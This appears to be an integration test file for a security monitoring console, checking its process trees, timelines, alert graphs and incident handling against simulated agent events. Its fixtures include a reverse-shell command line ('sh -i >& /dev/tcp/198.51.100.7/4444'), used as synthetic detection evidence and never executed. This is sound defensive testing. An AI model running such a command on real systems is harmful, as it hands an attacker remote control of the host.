/** What is found around an alert, over real HTTP: process tree, timeline, graph, incident. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Graph, IncidentDetail, ProcessTree, Timeline } from '@rampart/api'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

let shared: TestServer
let admin: TestConsole
let agent: TestAgent
const alertIds = new Map<string, string>()
const now = Date.now()
let sequence = 0

interface Start {
  pid: number
  above: readonly [number, string][]
  command?: string
  executable?: string
  at?: number
}

const entity = (pid: number) => `boot-1-${pid}-1`

/** An event of a process whose ancestors are given nearest first. */
function event(type: string, start: Start, fields: Record<string, unknown> = {}): Record<string, unknown> {
  sequence++
  const { pid, above, command = 'sh', executable = '/bin/sh', at = now - 60_000 + sequence } = start
  const ancestors = above.map(([one, path]) => ({ pid: one, entityId: entity(one), executable: path }))
  return {
    ...agent.event(sequence, type, fields),
    at,
    user: { id: 0, name: 'root' },
    process: {
      pid,
      entityId: entity(pid),
      startedAt: at,
      executable,
      commandLine: command,
      sessionId: 77,
      parent: ancestors[0],
      ancestors,
    },
  }
}

const daemon = [
  [400, '/usr/sbin/sshd'],
  [1, '/sbin/init'],
] as const satisfies [number, string][]
const session: [number, string][] = [[500, '/bin/bash'], [420, '/usr/sbin/sshd'], ...daemon]
const shell = { pid: 600, above: session, command: 'sh -i >& /dev/tcp/198.51.100.7/4444 a' }

before(async () => {
  shared = await startTestServer()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' })
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
  const children = Array.from({ length: 120 }, (_, index) =>
    event('process.started', { pid: 1000 + index, above: [[600, '/bin/sh'], ...session], command: `id ${index}` }),
  )
  const logon = { outcome: 'success', service: 'sshd', sessionId: '420', source: { address: '198.51.100.7' } }
  await agent.deliver(1, [
    { ...agent.event(900_001, 'logon.attempted', logon), at: now - 61_000, user: { name: 'root' } },
    event('process.started', { pid: 500, above: session.slice(1), executable: '/bin/bash', command: '-bash' }),
    event('process.started', shell),
    event('network.connected', shell, {
      source: { address: '192.0.2.10' },
      destination: { address: '198.51.100.7', port: 4444 },
      transport: 'tcp',
    }),
    event('file.written', shell, { file: { path: '/tmp/.x/update' }, created: true }),
    ...children,
    event('process.started', { pid: 601, above: session, command: 'sh -i >& /dev/tcp/198.51.100.7/4444 b' }),
    event('process.ended', shell, { exitCode: 3 }),
    // The same pid again, of another process: it has nothing to do with the first.
    {
      ...event('process.started', { pid: 600, above: [[1, '/sbin/init']], command: 'later owner of the pid' }),
      process: {
        pid: 600,
        entityId: 'boot-1-600-2',
        commandLine: 'later owner',
        parent: { pid: 1, entityId: entity(1) },
      },
    },
    event('process.started', { pid: 900, above: [[1, '/sbin/init']], command: 'unrelated' }),
  ])
  for (const alert of (await admin.call('listAlerts')).body.items)
    alertIds.set((await admin.call('getAlert', { id: alert.id })).body.evidence[0].process.commandLine.at(-1), alert.id)
})
after(async () => {
  agent?.cut()
  await shared?.end()
})

const tree = async (query = ''): Promise<ProcessTree> =>
  (await admin.call('getProcessTree', { id: alertIds.get('a') ?? '', query })).body
const pids = (found: ProcessTree) => found.nodes.map(({ pid }) => pid)

test('the process tree goes up to init and marks the evidence; its children come page by page', async () => {
  const found = await tree()
  assert.deepEqual(pids(found).slice(0, 5), [1, 400, 420, 500, 600])
  const marked = found.nodes.filter(({ marked }) => marked)
  assert.deepEqual(
    marked.map(({ entityId, children, connections, files, exitCode, user }) => ({
      entityId,
      children,
      connections,
      files,
      exitCode,
      user,
    })),
    [{ entityId: entity(600), children: 120, connections: 1, files: 1, exitCode: 3, user: 'root' }],
  )
  assert.equal(marked[0]?.alerts[0]?.id, alertIds.get('a'))
  assert.equal(found.nodes.length, 55)
  const below: number[] = []
  for (let cursor: string | null = ''; cursor !== null; ) {
    const page: ProcessTree = await tree(`of=${entity(600)}&limit=50${cursor && `&cursor=${cursor}`}`)
    below.push(...pids(page))
    cursor = page.nextCursor
  }
  assert.deepEqual(
    below,
    Array.from({ length: 120 }, (_, index) => 1000 + index),
  )
})

test('siblings come with the children of the parent, each with its alerts; a reused pid is another process', async () => {
  const found = await tree(`of=${entity(500)}`)
  assert.deepEqual(pids(found), [600, 601])
  assert.deepEqual(
    found.nodes.map(({ alerts }) => alerts[0]?.id),
    [alertIds.get('a'), alertIds.get('b')],
  )
  assert.ok(!found.nodes.some(({ commandLine }) => commandLine?.includes('later owner')))
  assert.deepEqual(pids(await tree('of=no-such-process')), [])
})

const timeline = async (query: string): Promise<Timeline> =>
  (await admin.call('getTimeline', { id: alertIds.get('a') ?? '', query })).body

test('the timeline of the tree has its events and alerts and nothing else, and follows page by page', async () => {
  const whole = await timeline('limit=500')
  const sentences = whole.items.map(({ sentence }) => sentence).join('\n')
  assert.match(sentences, /opened a connection to 198\.51\.100\.7:4444/)
  assert.match(sentences, /ran id 119/)
  assert.match(sentences, /root logged on through sshd from 198\.51\.100\.7/)
  assert.doesNotMatch(sentences, /unrelated|later owner/)
  assert.equal(whole.items.filter(({ kind }) => kind === 'alert').length, 2)
  assert.ok(whole.items.some(({ evidence }) => evidence))
  assert.deepEqual(whole.scopes, ['tree', 'session', 'asset'])
  assert.deepEqual(
    whole.items.map(({ at }) => at),
    whole.items
      .map(({ at }) => at)
      .sort()
      .reverse(),
  )
  const paged: string[] = []
  for (let cursor: string | null = ''; cursor !== null; ) {
    const page: Timeline = await timeline(`limit=40${cursor && `&cursor=${cursor}`}`)
    paged.push(...page.items.map(({ id }) => id))
    cursor = page.nextCursor
  }
  assert.deepEqual(
    paged,
    whole.items.map(({ id }) => id),
  )
  assert.ok((await timeline('scope=asset&limit=500')).items.some(({ sentence }) => sentence.includes('unrelated')))
  const files = await timeline('group=file')
  assert.deepEqual(
    files.items.map(({ type }) => type),
    ['file.written'],
  )
  const one = await timeline(`scope=process&of=${entity(600)}&group=network&group=file`)
  assert.deepEqual(one.items.map(({ type }) => type).sort(), ['file.written', 'network.connected'])
  assert.equal((await timeline('cursor=nonsense&limit=500')).items.length, whole.items.length)
})

const hasEdge = (graph: Graph, from: RegExp, kind: string, to: RegExp) =>
  graph.edges.some((edge) => edge.kind === kind && from.test(edge.from) && to.test(edge.to))

test('the graph leads from the address over logon and shell to the alert, and is bounded', async () => {
  const id = alertIds.get('a') ?? ''
  const graph: Graph = (await admin.call('getAlertGraph', { id })).body
  assert.ok(hasEdge(graph, /^address:198\.51\.100\.7$/, 'logged on as', /^logon:/), JSON.stringify(graph.edges))
  assert.ok(hasEdge(graph, /^logon:/, 'started', /boot-1-420/))
  assert.ok(hasEdge(graph, /boot-1-420/, 'started', /boot-1-500/))
  assert.ok(hasEdge(graph, /boot-1-500/, 'started', /boot-1-600/))
  assert.ok(hasEdge(graph, /boot-1-600/, 'connected to', /^address:198/))
  assert.ok(hasEdge(graph, /boot-1-600/, 'wrote', /^file:.*update$/))
  assert.ok(hasEdge(graph, /boot-1-600/, 'raised', new RegExp(`^alert:${id}$`)))
  const node = graph.nodes.find((one) => one.id.includes('boot-1-600-1'))
  assert.ok(node && node.hidden > 100, 'children beyond the first few are counted')
  const expanded: Graph = (
    await admin.call('getAlertGraph', { id, query: `expand=${encodeURIComponent(node.id)}&limit=500` })
  ).body
  assert.ok(expanded.nodes.length > 120)
  assert.equal(expanded.nodes.find((one) => one.id === node.id)?.hidden, 0)
  const small: Graph = (await admin.call('getAlertGraph', { id, query: 'limit=10' })).body
  assert.equal(small.nodes.length, 10)
  assert.ok(small.hidden > 0)
  for (const { from, to } of small.edges)
    for (const end of [from, to]) assert.ok(small.nodes.some((one) => one.id === end))
})

test('alerts of one tree are one incident, which is handled at once, alert by alert', async () => {
  const id = alertIds.get('a') ?? ''
  const detail = (await admin.call('getAlert', { id })).body
  assert.equal(detail.incident.alertCount, 2)
  assert.deepEqual(
    detail.related.map((one: { id: string }) => one.id),
    [alertIds.get('b')],
  )
  assert.ok(detail.related[0].shared.some(({ kind }: { kind: string }) => kind === 'process'))
  const seen: string[] = []
  const stream = await admin.stream((name, data) => {
    if (name === 'incidents.changed') seen.push(...(data as { ids: string[] }).ids)
  })
  const list = (await admin.call('listIncidents', { query: 'level=Urgent&stage=Remote+Control&q=web-1' })).body
  assert.deepEqual([list.total, list.items[0].id, list.open.Urgent], [1, detail.incident.id, 1])
  assert.equal((await admin.call('listIncidents', { query: 'q=no-such-word' })).body.total, 0)
  const incident: IncidentDetail = (await admin.call('getIncident', { id: detail.incident.id })).body
  assert.deepEqual(
    incident.stageTimes.map(({ stage, alertIds: of }) => [stage, of.length]),
    [['Remote Control', 2]],
  )
  const ofIncident = (incidentId: string) => admin.call('listAlerts', { query: `handled=all&incident=${incidentId}` })
  assert.equal((await ofIncident(incident.id)).body.total, 2)
  assert.equal((await ofIncident('in-none')).body.total, 0)
  const graph: Graph = (await admin.call('getIncidentGraph', { id: incident.id })).body
  assert.equal(graph.nodes.filter(({ kind }) => kind === 'alert').length, 2)
  // One of the two is decided already: it is told, and does not stop the other.
  await admin.call('handleAlert', { id, body: { operation: 'ignore', version: detail.version } })
  const body = { operation: 'ignore', note: 'Drill.', close: true }
  const { batch } = (await admin.call('handleIncidentAlerts', { id: incident.id, body })).body
  const ended = async () => (await admin.call('getBatch', { id: batch.id })).body
  for (let tries = 0; tries < 300 && (await ended()).state === 'running'; tries++)
    await new Promise((resolve) => setTimeout(resolve, 10))
  assert.deepEqual([(await ended()).done, (await ended()).refused], [1, 1])
  const handled: IncidentDetail = (await admin.call('getIncident', { id: incident.id })).body
  assert.deepEqual([handled.state, handled.openCount], ['closed', 0])
  const stale = { operation: 'reopen', version: incident.version }
  assert.equal((await admin.call('handleIncident', { id: incident.id, body: stale })).body.code, 'incident.changed')
  const { version } = handled
  const assigned = await admin.call('handleIncident', {
    id: incident.id,
    body: { operation: 'assign', version, assignee: 'admin' },
  })
  assert.equal(assigned.body.assignee, 'admin')
  assert.deepEqual(
    assigned.body.history.map(({ operation }: { operation: string }) => operation),
    ['opened', 'ignore', 'close', 'assign'],
  )
  for (let tries = 0; tries < 300 && !seen.includes(incident.id); tries++)
    await new Promise((resolve) => setTimeout(resolve, 10))
  assert.ok(seen.includes(incident.id))
  await stream.stop()
  assert.equal((await admin.call('getIncident', { id: 'in-none' })).status, 404)
})

test('incidents are there after a restart', async () => {
  await shared.restart()
  const again = new TestConsole(shared.server.consoleUrl)
  await again.signIn('admin', 'a new and long password')
  assert.equal((await again.call('listIncidents', { query: 'state=closed' })).body.total, 1)
})
